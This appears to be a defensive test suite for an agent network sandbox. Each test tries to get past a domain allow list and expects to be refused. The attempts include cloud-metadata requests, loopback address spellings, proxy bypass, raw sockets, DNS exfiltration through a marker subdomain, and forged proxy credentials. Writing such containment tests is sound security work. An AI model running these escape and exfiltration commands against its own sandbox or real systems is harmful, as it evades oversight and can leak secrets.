// Reaching what the allow list does not name: other hosts by name or address, loopback and
// metadata addresses, the host's own services, the proxy used other ways, no proxy at all.
import { createServer, type Server, type AddressInfo } from 'node:net';

import { afterAll, beforeAll, expect } from 'vitest';

import type { SrtNetworkSandboxSession } from '../sandbox/srt-view.js';
import { securityCategory } from './record.js';
import { brief, marker, SandboxPool, scratchDirectory } from './support.js';

const { attack } = securityCategory('network');

let scratch: Awaited<ReturnType<typeof scratchDirectory>>;
let pool: SandboxPool;
let session: SrtNetworkSandboxSession;
/** A service on the host's loopback that answers with a secret to whoever connects. */
let service: Server;
let servicePort = 0;
const serviceSecret = marker('host-service');

beforeAll(async () => {
  scratch = await scratchDirectory('network');
  pool = new SandboxPool(scratch.path);
  service = createServer(socket => socket.end(`HTTP/1.0 200 OK\r\n\r\n${serviceSecret}\n`));
  await new Promise<void>(resolve => service.listen(0, '127.0.0.1', resolve));
  servicePort = (service.address() as AddressInfo).port;
  session = await pool.create({ allowedDomains: ['registry.npmjs.org'] });
});
afterAll(async () => {
  await pool.destroyAll();
  await new Promise(resolve => service.close(resolve));
  await scratch.remove();
});

const curl = (args: string) => `curl -sS -m 8 -o /dev/null -w '%{http_code}' ${args}; echo " rc=$?"`;

async function inside(command: string): Promise<string> {
  const result = await session.run({ command });
  return `${result.stdout}${result.stderr}`;
}

attack('control: reach the allowed host (registry.npmjs.org)', 'allowed: 200', async () => {
  const output = await inside(curl('https://registry.npmjs.org/-/ping'));
  expect(output).toMatch(/^200 rc=0/);
  return brief(output);
});

for (const [label, args] of [
  ['a denied host by name (example.com)', 'https://example.com/'],
  ['a denied host by IP literal (1.1.1.1)', 'https://1.1.1.1/'],
  ['a denied host by IPv6 literal', 'https://[2606:4700:4700::1111]/'],
  [
    'the cloud metadata address (169.254.169.254) through the proxy',
    "--noproxy '' http://169.254.169.254/latest/meta-data/",
  ],
  [
    'an allowed name in plain HTTP on port 80 with a Host header for another site',
    "-H 'Host: example.com' http://registry.npmjs.org/",
  ],
] as const) {
  attack(`reach ${label}`, 'refused by the proxy', async () => {
    const output = await inside(curl(args));
    expect(output).not.toMatch(/^2\d\d rc=0/);
    return brief(output);
  });
}

attack(
  'reach another port of a host allowed on one port only (registry.npmjs.org:443 → :8443)',
  'refused by the proxy',
  async () => {
    const scoped = await pool.create({ allowedDomains: ['registry.npmjs.org:443'] });
    const result = await scoped.run({
      command: `${curl('https://registry.npmjs.org:8443/-/ping')}; ${curl('https://registry.npmjs.org/-/ping')}`,
    });
    const [other, allowed] = result.stdout.trim().split('\n');
    expect(allowed).toMatch(/^200/);
    expect(other).not.toMatch(/^2\d\d/);
    return brief(`${other} (443 gives ${allowed})`);
  },
);

attack(
  "reach a service on the host's loopback, every spelling of it, direct and through the proxy",
  'refused: the sandbox has its own network namespace and the proxy refuses loopback',
  async () => {
    const spellings = [
      '127.0.0.1',
      'localhost',
      '127.1',
      '0.0.0.0',
      '[::1]',
      '2130706433',
      '0x7f.0.0.1',
      '127.0.0.2',
      '[::ffff:127.0.0.1]',
      'localhost.',
    ];
    const attempts = spellings.flatMap(host => [
      `curl -sS -m 5 http://${host}:${servicePort}/`,
      `curl -sS -m 5 --noproxy '' http://${host}:${servicePort}/`,
      `curl -sS -m 5 --noproxy '' -x "$HTTP_PROXY" -p http://${host}:${servicePort}/`,
    ]);
    const output = await inside(attempts.map(attempt => `${attempt} 2>&1`).join('; '));
    expect(output).not.toContain(serviceSecret);
    return `${attempts.length} attempts, none answered by the host service`;
  },
);

attack('reach the host service through the SOCKS port (1080)', 'refused', async () => {
  const output = await inside(
    `curl -sS -m 5 --socks5-hostname localhost:1080 http://127.0.0.1:${servicePort}/ 2>&1; ` +
      `curl -sS -m 5 -x "$FTP_PROXY" http://127.0.0.1:${servicePort}/ 2>&1; ` +
      `curl -sS -m 5 -x "$FTP_PROXY" https://example.com/ 2>&1; echo rc=$?`,
  );
  expect(output).not.toContain(serviceSecret);
  expect(output).not.toMatch(/<html/i);
  return brief(output);
});

attack(
  "reach srt's proxy on the host's loopback directly (CLAUDE_CODE_HOST_HTTP_PROXY_PORT)",
  'refused: not in the namespace',
  async () => {
    const output = await inside(curl(`--noproxy '*' http://127.0.0.1:$CLAUDE_CODE_HOST_HTTP_PROXY_PORT/`));
    expect(output).not.toMatch(/^2\d\d/);
    return brief(output);
  },
);

attack('bypass the proxy: --noproxy "*" and unset proxy variables', 'refused: no route, no DNS', async () => {
  const output = await inside(
    `${curl("--noproxy '*' https://registry.npmjs.org/-/ping")}; ` +
      `env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy ${curl('https://registry.npmjs.org/-/ping')}`,
  );
  expect(output).not.toMatch(/(^|\n)200 rc=0/);
  return brief(output);
});

attack(
  'open a raw TCP socket to a public address and to the metadata address (python3)',
  'refused: no route',
  async () => {
    const output = await inside(`/usr/bin/python3 - <<'PY'
import socket
for addr in [('1.1.1.1', 443), ('169.254.169.254', 80), ('8.8.8.8', 53)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect(addr); print('CONNECTED', addr)
    except OSError as e:
        print('refused', addr, e.strerror)
try:
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    r.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00', ('1.1.1.1', 0)); print('RAW SENT')
except OSError as e:
    print('raw refused', e.strerror)
PY`);
    expect(output).not.toContain('CONNECTED');
    expect(output).not.toContain('RAW SENT');
    return brief(output);
  },
);

attack('resolve names (DNS exfiltration: <secret>.example.com)', 'refused: no resolver inside', async () => {
  const output = await inside(
    `getent hosts ${marker('exfil')}.example.com; echo rc=$?; /usr/bin/python3 -c "import socket; print(socket.getaddrinfo('example.com', 443))" 2>&1 | tail -1`,
  );
  expect(output).not.toMatch(/\d+\.\d+\.\d+\.\d+\s+\S*example\.com/);
  expect(output).toMatch(/rc=2|rc=1/);
  return brief(output);
});

attack(
  "use the proxy with a forged or missing sandbox id (another sandbox's allow list)",
  'refused: the id selects only the list it was given',
  async () => {
    // The proxy user is srt.<base64 of the sandbox's id>; without one, or with another, no list applies.
    const output = await inside(
      `token=\${HTTP_PROXY#*:*:}; token=\${token%@*}; ` +
        `${curl(`-x "http://srt:$token@localhost:3128" https://registry.npmjs.org/-/ping`)}; ` +
        `${curl(`-x "http://srt.$(printf '%s' ${marker('forged-id-0123456789abcdef')} | base64 -w0):$token@localhost:3128" https://registry.npmjs.org/-/ping`)}`,
    );
    expect(output).not.toMatch(/(^|\n)200 rc=0/);
    return brief(output);
  },
);

attack(
  'reach the allowed host after setNetworkPolicy({ mode: "deny-all" })',
  'refused from the next request on',
  async () => {
    const denied = await pool.create({ allowedDomains: ['registry.npmjs.org'] });
    await denied.setNetworkPolicy!({ mode: 'deny-all' });
    const result = await denied.run({ command: curl('https://registry.npmjs.org/-/ping') });
    expect(result.stdout).not.toMatch(/^200/);
    return brief(result.stdout);
  },
);
